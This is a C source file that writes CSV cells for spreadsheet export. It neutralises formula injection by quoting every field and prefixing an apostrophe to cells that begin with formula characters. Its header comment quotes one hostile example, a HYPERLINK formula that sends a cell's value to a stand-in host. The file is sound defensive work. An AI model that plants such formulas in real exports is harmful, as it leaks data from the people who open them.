/*
 * csvout.c: CSV cells for spreadsheets (see export_internal.h).
 *
 * The action plan and rollup.csv are opened in Excel, LibreOffice and
 * Google Sheets by people who did not write their contents: an agency
 * chose every secret id, account and reason text a row carries.  A cell
 * such as =HYPERLINK("http://x/?"&A1) would run when opened, so every cell
 * whose first character starts a formula is prefixed with an apostrophe
 * (OWASP, "CSV Injection": =, +, -, @, tab, carriage return; the full-width
 * forms too, which some spreadsheets accept as well).  The apostrophe is
 * what spreadsheets themselves use to mark "text, not a formula", and it
 * shows: a reader sees that the cell was neutralised.  Python's csv module,
 * pandas and R read the apostrophe as part of the value; docs/exports.md
 * says so.
 *
 * Every field is quoted, not only those RFC 4180 requires, so a reader that
 * splits on commas naively still sees where a cell with a comma ends.
 */
#include "export/export_internal.h"

#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include "core/str.h"

bool rg_csv_is_formula(const char *s)
{
	if (!s || !*s)
		return false;
	if (strchr("=+-@\t\r", s[0]))
		return true;
	/* U+FF1D, U+FF0B, U+FF0D, U+FF20 in UTF-8: EF BC 9D / 8B / 8D / A0. */
	const unsigned char *u = (const unsigned char *)s;
	return u[0] == 0xEF && u[1] == 0xBC &&
	       (u[2] == 0x9D || u[2] == 0x8B || u[2] == 0x8D || u[2] == 0xA0);
}

static void put(struct rg_csv *w, const char *p, size_t n)
{
	if (!w->fail && n && fwrite(p, 1, n, w->f) != n)
		w->fail = true;
}

void rg_csv_cell(struct rg_csv *w, const char *s)
{
	if (w->row_begun)
		put(w, ",", 1);
	w->row_begun = true;
	put(w, "\"", 1);
	if (rg_csv_is_formula(s))
		put(w, "'", 1);
	for (const char *p = s ? s : ""; *p;) {
		/* Runs of plain bytes go out at once. */
		size_t n = strcspn(p, "\"\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f"
		                      "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f");
		put(w, p, n);
		p += n;
		if (!*p)
			break;
		put(w, *p == '"' ? "\"\"" : " ", *p == '"' ? 2 : 1);
		p++;
	}
	put(w, "\"", 1);
}

void rg_csv_cellf(struct rg_csv *w, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	char *s = rg_vasprintf(fmt, ap);
	va_end(ap);
	if (!s)
		w->fail = true;
	rg_csv_cell(w, s);
	free(s);
}

void rg_csv_end_row(struct rg_csv *w)
{
	put(w, "\r\n", 2);
	w->row_begun = false;
}

void rg_csv_row(struct rg_csv *w, const char *const *cells, size_t n)
{
	for (size_t i = 0; i < n; i++)
		rg_csv_cell(w, cells[i]);
	rg_csv_end_row(w);
}
